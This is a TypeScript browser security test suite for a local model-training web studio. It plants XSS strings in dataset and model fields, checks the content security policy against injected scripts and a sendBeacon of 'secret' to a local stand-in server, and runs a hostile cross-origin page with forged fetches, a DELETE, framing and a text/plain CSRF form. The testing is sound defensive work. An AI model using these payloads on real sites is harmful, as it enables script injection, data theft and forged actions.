/** @file Hostile strings on every page, and hostile pages beside the studio, in a real browser. */
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { type Server, createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { prepareJob } from "../../src/job/prepare-job.ts";
import { defaultSettings } from "../../src/job/settings.ts";
import { buildDataset } from "../../src/plugins/dataset/build.ts";
import { temporaryFolder } from "../support/temporary.ts";
import { tinyNetwork } from "../support/tiny-dataset.ts";
import {
  type RunningStudio,
  chromiumPath,
  launch,
  openPage,
  startStudioProgram,
  whySkipped,
} from "./studio.ts";
import { diceLayer } from "./weights.ts";

const at = temporaryFolder("browser-safety");
/** What would be run if a page took it for HTML. */
const HTML = `<img src=x onerror="document.title='hacked'"><script>document.title='hacked'</script>`;

/** A dataset of a stranger, whose files and classes have HTML for names. */
async function hostileDataset(out: string): Promise<void> {
  const entries = [0, 1, 2, 3].map((index) => {
    const id = `${HTML} ${index}`;
    const image = { height: 8, width: 8, channels: 1, data: new Uint8Array(64).fill(50 * index) };
    const label = { ...image, data: new Uint8Array(64).fill(index % 2) };
    return { id, group: id, about: { id }, load: async () => ({ feature: image, label }) };
  });
  const palette = [[0, 0, 0] as const, [255, 255, 255] as const];
  const description = { kind: HTML, classNames: [HTML, HTML], palette, settings: {} };
  const leftOut = [{ id: HTML, reason: HTML }];
  await buildDataset(
    { train: entries.slice(0, 2), val: entries.slice(2), leftOut, description },
    { out },
  );
}

/** A model of a stranger: HTML in its layers, outputs, log, and in the reason why it failed. */
async function hostileModel(out: string, dataset: string): Promise<void> {
  const quoted = HTML.replaceAll('"', '\\"');
  const network = tinyNetwork()
    .replace('name: "score"', `name: "${quoted}"`)
    .replaceAll('"scaled"', `"${quoted}"`);
  const settings = { ...defaultSettings, dataset, network: "network", layers: [diceLayer] };
  await prepareJob({ settings: { ...settings, mean: "none" }, networkText: network, out });
  const record = JSON.parse(readFileSync(`${out}/job.json`, "utf8"));
  const failed = { ...record, name: HTML, status: "error", error: HTML };
  writeFileSync(`${out}/job.json`, JSON.stringify(failed));
  writeFileSync(`${out}/caffe_output.log`, `${HTML}\n`.repeat(3));
  const point = (iter: number, phase: string) =>
    `${JSON.stringify({ iter, epoch: iter, phase, values: { [HTML]: 1 / (iter + 1), loss: iter }, lr: 1, time: iter })}\n`;
  const points = [point(0, "val"), point(1, "train"), point(2, "train"), point(3, "val")];
  writeFileSync(`${out}/metrics.jsonl`, points.join(""));
}

describe.skipIf(!chromiumPath)(`the studio's safety in a browser${whySkipped}`, () => {
  let studio: RunningStudio;
  let browser: Browser;
  let page: Page;
  let stranger: Server;
  /** What reached the server of the stranger, and its address. */
  const reached: string[] = [];
  let strange: string;
  let html = "";

  beforeAll(async () => {
    mkdirSync(at("jobs"));
    await hostileDataset(at("jobs", "hostile-data"));
    await hostileModel(at("jobs", "hostile"), at("jobs", "hostile-data"));
    studio = await startStudioProgram(at("jobs"), [at("jobs")]);
    stranger = createServer((request, response) => {
      reached.push(request.url ?? "");
      response.setHeader("content-type", "text/html");
      response.end(html);
    }).listen(0, "127.0.0.1");
    await new Promise((resolve) => stranger.once("listening", resolve));
    strange = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
    browser = await launch();
    ({ page } = await openPage(browser));
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    stranger?.close();
    await studio?.end("SIGINT");
  });

  test.each([
    ["home", "/", "hostile"],
    ["the dataset's", "/datasets/hostile-data", "Explore"],
    ["the model's", "/models/hostile", "Failed"],
    ["the form's", "/new-model?clone=hostile", "parameters; training needs"],
    ["the comparison's", "/compare?jobs=hostile", "Learning rate"],
  ])("strings are text on %s page", async (_name, path, landmark) => {
    await page.goto(studio.url + path);
    await page.getByText(landmark).first().waitFor();
    await page.waitForTimeout(1000);
    expect(await page.title()).not.toBe("hacked");
    const made = `document.querySelectorAll('img[src="x"], main script, [onerror]').length`;
    expect(await page.evaluate(made)).toBe(0);
    if (path !== "/new-model?clone=hostile")
      expect(await page.locator("main").textContent()).toContain(HTML);
  });

  test("the policy runs no script but the studio's own, and lets nothing out", async () => {
    await page.goto(studio.url);
    await page.getByText("Models").first().waitFor();
    const before = reached.length;
    await page.evaluate(`(async () => {
      const script = document.createElement("script");
      script.textContent = "document.title = 'hacked'";
      document.head.append(script);
      const box = document.createElement("div");
      box.innerHTML = ${JSON.stringify(HTML)} + '<a href="javascript:document.title=1">go</a>';
      document.body.append(box);
      box.querySelector("a").click();
      const other = document.createElement("script");
      other.src = "${strange}/script.js";
      document.head.append(other);
      new Image().src = "${strange}/picture.png";
      await fetch("${strange}/fetch", { mode: "no-cors" }).catch(() => undefined);
      navigator.sendBeacon("${strange}/beacon", "secret");
    })()`);
    await page.waitForTimeout(1000);
    expect(await page.title()).not.toMatch(/hacked|^1$/);
    expect(reached.slice(before)).toEqual([]);
  });

  test("a page of a stranger can neither read, nor write, nor frame it", async () => {
    const form = JSON.stringify({ kind: "phantom", name: "forged", patients: 2 });
    html = `<title>waiting</title>
      <iframe src="${studio.url}"></iframe>
      <img id="img" src="${studio.url}/api/datasets/hostile-data/picture?stage=train&index=0">
      <script>
        const tries = [
          fetch("${studio.url}/api/jobs"),
          fetch("${studio.url}/api/datasets", { method: "POST", mode: "no-cors", body: ${JSON.stringify(form)} }).then(() => { throw 0; }),
          fetch("${studio.url}/api/datasets", { method: "POST", headers: { "content-type": "application/json" }, body: ${JSON.stringify(form)} }),
          fetch("${studio.url}/api/jobs/hostile", { method: "DELETE" }),
          new Promise((resolve, reject) => {
            const events = new EventSource("${studio.url}/api/events");
            events.addEventListener("jobs", resolve);
            events.addEventListener("error", reject);
          }),
        ];
        Promise.allSettled(tries).then((all) => {
          const through = all.filter(({ status }) => status === "fulfilled").length;
          document.title = "through: " + through + ", picture: " + document.getElementById("img").naturalWidth;
        });
      </script>`;
    await page.goto(strange);
    await expect.poll(() => page.title()).toBe("through: 0, picture: 0");
    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    expect(framed?.url()).not.toContain(studio.url);
    html = `<form method="post" enctype="text/plain" action="${studio.url}/api/datasets">
      <input name='${form.slice(0, -1)},"x":"' value='"}'></form><script>document.forms[0].submit()</script>`;
    await page.goto(strange);
    await page.waitForURL(`${studio.url}/**`);
    expect(await page.content()).toContain("another origin");
    const jobs = (await (await fetch(`${studio.url}/api/jobs`)).json()) as { id: string }[];
    expect(jobs.map(({ id }) => id).sort()).toEqual(["hostile", "hostile-data"]);
  });
});
